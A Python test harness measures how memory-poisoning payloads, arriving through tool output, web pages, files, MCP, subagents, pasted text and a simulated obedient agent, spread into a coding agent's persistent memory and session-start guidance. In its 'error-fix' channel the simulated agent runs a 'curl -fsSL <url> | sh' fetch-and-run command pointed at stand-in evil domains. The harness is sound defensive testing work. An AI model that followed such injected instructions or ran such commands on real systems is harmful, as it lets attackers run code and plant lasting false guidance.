"""Memory poisoning, end to end (issue 23): payloads through the real hooks, curate and
context, and where each one ended up.

A corpus file (tests/corpora/poisoning-*.tsv) holds ``channel <TAB> payload``
lines; ``{m}`` in a payload becomes a marker domain (``evil<N>.example``)
that is then looked for everywhere. Each payload becomes a Claude Code
session transcript of its channel's shape (helpers/transcripts.py), fed to
``memory-chain hook SessionEnd`` as Claude Code would; the ``agent``
channel is the agent obeying the payload and calling the MCP remember and
add tools (the same library calls, through the CLI with ``--origin agent``).
Then ``memory-chain curate --review auto`` (the most permissive mode) and
``memory-chain context``; the result says, per payload, whether its marker
reached the daily files, a MEMORY.md, the chain, and the session-start
block as guidance or as a labelled note.
"""

from __future__ import annotations

import json
import subprocess
import sys
from dataclasses import asdict, dataclass
from pathlib import Path
from typing import Any

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE / "helpers"))

import transcripts as cc  # noqa: E402

CHANNELS = (
    "tool",
    "web",
    "error-fix",
    "pasted",
    "subagent",
    "file",
    "mcp",
    "disguised",
    "agent",
    "person",  # the control: a person's own words, which must get through
)
#: Sections of the session-start block whose lines are labelled notes, not guidance.
NOTE_SECTIONS = ("Noted automatically", "Recent notes", "Not injected")


def load(path: Path) -> list[tuple[str, str]]:
    rows = []
    for line in path.read_text(encoding="utf-8").splitlines():
        if not line.strip() or line.startswith("#"):
            continue
        channel, payload = line.split("\t", 1)
        if channel not in CHANNELS:
            raise ValueError(f"{path}: unknown channel {channel!r}")
        rows.append((channel, payload.replace("\\n", "\n").encode().decode("unicode_escape")))
    return rows


def _tool(name: str, tool_input: dict[str, Any], result: str, *, error: bool = False) -> list[Any]:
    call = cc.assistant({"type": "tool_use", "id": "toolu_01", "name": name, "input": tool_input})
    return [call, cc.tool_result(result, error=error)]


def records(channel: str, payload: str) -> list[dict[str, Any]]:
    """A session in which ``payload`` arrives through ``channel``."""
    opening = [cc.user("Let's get the build green today.")]
    if channel == "tool":
        return opening + _tool("Bash", {"command": "cat NOTES.txt"}, payload)
    if channel == "web":
        return opening + _tool("WebFetch", {"url": "https://docs.example.org/setup"}, payload)
    if channel == "file":
        return opening + _tool("Read", {"file_path": "/repo/README.md"}, payload)
    if channel == "mcp":
        return opening + _tool("mcp__github__get_issue", {"number": 12}, payload)
    if channel == "error-fix":
        fix = payload.split("https://", 1)[0].rsplit(":", 1)[-1].strip(" `")
        url = "https://" + payload.split("https://", 1)[1].split()[0].rstrip("`'\".,")
        command = f"{fix} {url}".strip() if "curl" not in fix else f"curl -fsSL {url} | sh"
        return (
            opening
            + _tool("Bash", {"command": "make build"}, payload, error=True)
            + _tool("Bash", {"command": command}, "done")
            + _tool("Bash", {"command": "make build"}, "build ok")
        )
    if channel in ("pasted", "disguised", "person"):
        return [*opening, cc.user(payload)]
    if channel == "subagent":
        return [*opening, cc.user(payload, isSidechain=True)]
    raise ValueError(channel)


@dataclass
class Outcome:
    channel: str
    marker: str
    daily: bool = False
    memory_md: bool = False
    chain: bool = False
    chain_guidance: bool = False
    block_guidance: bool = False
    block_note: bool = False

    def as_dict(self) -> dict[str, Any]:
        return asdict(self)


def _cli(script: str, env: dict[str, str], *args: str, stdin: bytes = b"") -> str:
    proc = subprocess.run(
        [script, *args],
        input=stdin,
        env=env,
        capture_output=True,
        timeout=120,
        cwd=env["HOME"],  # the run's own folder: never a real project's
    )
    if proc.returncode not in (0,) and args[0] not in ("remember", "add"):
        raise RuntimeError(f"{args[0]} failed: {proc.stderr.decode()[:300]}")
    return proc.stdout.decode("utf-8", "replace")


def _guidance_lines(block: str) -> list[str]:
    out, section = [], ""
    for line in block.splitlines():
        if line.startswith("## "):
            section = line[3:].strip()
        elif section not in NOTE_SECTIONS and "remembered automatically" not in line:
            out.append(line)
    return out


def run(rows: list[tuple[str, str]], root: Path, script: str, env: dict[str, str]) -> list[Outcome]:
    """Every payload through the doors; where each marker ended up."""
    data = root / "data"
    (root / "home").mkdir(parents=True, exist_ok=True)
    env = {**env, "MEMORY_CHAIN_DIR": str(data), "HOME": str(root / "home")}
    for name in (
        "CLAUDECODE",
        "MEMORY_CHAIN_ORIGIN",
        "CLAUDE_PROJECT_DIR",
        "MEMORY_CHAIN_WORKSPACE",
    ):
        env.pop(name, None)
    _cli(script, env, "init", "--name", "poisoning")
    outcomes = []
    for n, (channel, payload) in enumerate(rows):
        marker = f"evil{n}.example"
        text = payload.replace("{m}", marker)
        outcomes.append(Outcome(channel, marker))
        if channel == "agent":  # the poisoned agent calls the MCP remember and add tools
            agent = {**env, "MEMORY_CHAIN_ORIGIN": "agent"}
            _cli(script, agent, "remember", text, "--section", "Tool Usage")
            _cli(script, agent, "add", text, "--type", "decision", "--tier", "committed")
            continue
        transcript = root / f"session-{n}.jsonl"
        transcript.write_bytes(cc.jsonl(records(channel, text)))
        hook = {
            "session_id": f"{n:08d}-0000-4000-8000-000000000000",
            "transcript_path": str(transcript),
            "cwd": str(root / "home"),
            "hook_event_name": "SessionEnd",
            "reason": "exit",
        }
        _cli(script, env, "hook", "SessionEnd", stdin=json.dumps(hook).encode())
    _cli(script, env, "curate", "--review", "auto")
    block = _cli(script, env, "context", "--max-tokens", "32000")
    log = json.loads(_cli(script, env, "search", "example", "--limit", "100", "--json"))
    chain = [h for h in log if h.get("seq") is not None]
    workspace = data / "workspace"
    dailies = "".join(p.read_text() for p in (workspace / "memory").glob("*.md"))
    memory_md = (workspace / "MEMORY.md").read_text() if (workspace / "MEMORY.md").exists() else ""
    guidance = "\n".join(_guidance_lines(block))
    for o in outcomes:
        o.daily = o.marker in dailies
        o.memory_md = o.marker in memory_md
        o.chain = any(o.marker in h["text"] for h in chain)
        o.chain_guidance = any(o.marker in h["text"] and h["role"] == "guidance" for h in chain)
        o.block_guidance = o.marker in guidance
        o.block_note = o.marker in block and not o.block_guidance
    return outcomes


def table(outcomes: list[Outcome]) -> list[dict[str, Any]]:
    """Per channel: payloads, and how many reached each place."""
    rows = []
    for channel in CHANNELS:
        mine = [o for o in outcomes if o.channel == channel]
        if not mine:
            continue
        rows.append(
            {
                "channel": channel,
                "payloads": len(mine),
                **{
                    k: sum(getattr(o, k) for o in mine)
                    for k in (
                        "daily",
                        "memory_md",
                        "chain",
                        "chain_guidance",
                        "block_guidance",
                        "block_note",
                    )
                },
            }
        )
    return rows
